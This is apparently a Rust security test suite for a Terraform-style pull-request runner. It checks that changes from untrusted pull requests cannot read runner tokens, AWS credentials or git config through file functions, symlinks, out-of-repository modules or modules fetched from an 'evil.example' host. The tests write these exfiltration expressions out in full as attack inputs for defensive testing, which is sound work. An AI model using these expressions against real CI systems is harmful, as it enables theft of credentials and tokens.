//! Attacks on the machine's files: by path, through links, as a module, as configuration.

use std::os::unix::fs::symlink;

use super::world::{Runner, TOKEN};

/// The change reads a file with a function, and gives it out.
fn reads(runner: &Runner, expression: &str) {
    runner.append("shop/main.tf", &format!("output \"leak\" {{ value = {expression} }}\n"));
    runner.commit();
    assert!(runner.trusted().contains(TOKEN), "{expression} is there to be taken");
    runner.refuses("pull-request-file", "shop/main.tf:5,");
}

#[test]
fn a_file_of_the_runner() {
    let runner = Runner::new();
    let path = runner.beside("runner/token").display().to_string();
    reads(&runner, &format!("file({path:?})"));
}

#[test]
fn a_file_above_the_repository() {
    let runner = Runner::new();
    reads(
        &runner,
        "filebase64(\"../../runner/token\") == \"\" ? \"\" : file(\"../../runner/token\")",
    );
}

#[test]
fn the_token_that_fetched_the_change() {
    reads(&Runner::new(), "file(\"../.git/config\")");
}

#[test]
fn credentials_that_stand_beside_the_code() {
    let runner = Runner::new();
    runner.git(&["config", "core.excludesFile", "../ignored"]);
    runner.outside("ignored", "gha-creds.json\n");
    runner.write("gha-creds.json", TOKEN);
    reads(&runner, "file(\"../gha-creds.json\")");
}

#[test]
fn the_credentials_of_the_home_folder() {
    reads(&Runner::new(), "file(pathexpand(\"~/.aws/credentials\"))");
}

#[test]
fn a_file_as_a_template() {
    reads(&Runner::new(), "templatefile(\"../../runner/token\", {})");
}

#[test]
fn whether_a_file_of_the_runner_is_there() {
    let runner = Runner::new();
    let asks = |name: &str| {
        format!("${{try(tostring(fileexists(\"../../runner/{name}\")), \"refused\")}}")
    };
    let lists = "${try(join(\",\", fileset(\"../../runner\", \"*\")), \"refused\")}";
    let answers = format!("answers: {} {} {lists}", asks("token"), asks("nothing"));
    runner.append("shop/main.tf", &format!("output \"leak\" {{ value = \"{answers}\" }}\n"));
    runner.commit();
    assert!(runner.trusted().contains("answers: true false token"), "it can be told");
    let (code, said) = runner.pull_request(&[]);
    assert_eq!(code, 0, "{said}");
    assert!(said.contains("answers: refused refused refused"), "{said}");
}

#[test]
fn a_link_to_a_file_of_the_runner() {
    let runner = Runner::new();
    symlink("../../runner/token", runner.path("shop/data.txt")).expect("a link");
    runner.append("shop/main.tf", "output \"leak\" { value = file(\"data.txt\") }\n");
    runner.commit();
    assert!(runner.trusted().contains(TOKEN), "the link leads there");
    runner.refuses("pull-request-link", "shop/data.txt leads to ../../runner/token");
}

#[test]
fn a_link_as_a_file_of_configuration() {
    let runner = Runner::new();
    symlink("../../home/.aws/credentials", runner.path("shop/creds.tf")).expect("a link");
    runner.commit();
    assert!(runner.trusted().contains(TOKEN), "an error would show its line");
    runner.refuses("pull-request-link", "shop/creds.tf");
}

#[test]
fn a_link_in_the_place_of_the_estate_file() {
    let runner = Runner::new();
    std::fs::remove_file(runner.path("strata.hcl")).expect("removed");
    symlink("../home/.aws/credentials", runner.path("strata.hcl")).expect("a link");
    runner.commit();
    assert!(runner.trusted().contains(TOKEN), "an error would show its line");
    runner.refuses("pull-request-link", "strata.hcl");
}

#[test]
fn a_module_outside_of_the_repository() {
    let runner = Runner::new();
    runner.outside("runner/module/main.tf", &format!("output \"x\" {{ value = \"{TOKEN}\" }}\n"));
    let call = "module \"m\" { source = \"../../runner/module\" }\noutput \"leak\" { value = module.m.x }\n";
    runner.append("shop/main.tf", call);
    runner.commit();
    assert!(runner.trusted().contains(TOKEN), "the module is there to be read");
    let (code, said) = runner.pull_request(&[]);
    assert_eq!(code, 1, "{said}");
    assert!(
        said.contains("leads out of the repository") && said.contains("shop/main.tf:5,"),
        "{said}"
    );
    runner.nothing_got_out(&said);
}

#[test]
fn a_stack_outside_of_the_repository() {
    let runner = Runner::new();
    runner.outside("runner/stack/main.tf", &format!("output \"x\" {{ value = \"{TOKEN}\" }}\n"));
    runner.append(
        "strata.hcl",
        "stack \"mine\" {\n  layer = \"apps\"\n  source = \"../runner/stack\"\n}\n",
    );
    runner.commit();
    assert!(runner.trusted().contains(TOKEN), "the stack is there to be read");
    let (code, said) = runner.pull_request(&[]);
    assert_eq!(code, 1, "{said}");
    assert!(said.contains("leads out of the repository"), "{said}");
    runner.nothing_got_out(&said);
}

#[test]
fn a_module_on_another_host() {
    for source in
        ["git::https://evil.example/m.git", "evil.example/a/b/c", "https://evil.example/m.zip"]
    {
        let runner = Runner::new();
        runner.append("shop/main.tf", &format!("module \"m\" {{ source = {source:?} }}\n"));
        runner.commit();
        let (code, said) = runner.pull_request(&[]);
        assert_eq!(code, 1, "{said}");
        // The language has no such modules yet, and says so of this one.
        assert!(said.contains("[not-yet-in-the-language]"), "{said}");
        assert!(said.contains("shop/main.tf:5,") && said.contains("module"), "{said}");
    }
}

#[test]
fn a_repository_within_the_repository() {
    let runner = Runner::new();
    runner.write("sub/m/main.tf", "output \"x\" { value = 1 }\n");
    let inner = runner.path("sub");
    let git = |args: &[&str]| {
        let run = std::process::Command::new("git")
            .args(["-c", "user.name=a", "-c", "user.email=a@b"])
            .args(args)
            .current_dir(&inner)
            .output();
        assert!(run.expect("git runs").status.success(), "{args:?}");
    };
    git(&["init", "-q"]);
    git(&["add", "."]);
    git(&["commit", "-qm", "of nobody"]);
    runner.append("shop/main.tf", "module \"m\" { source = \"../sub/m\" }\n");
    runner.commit();
    runner.trusted();
    runner.refuses("pull-request-submodule", "sub is a submodule");
}
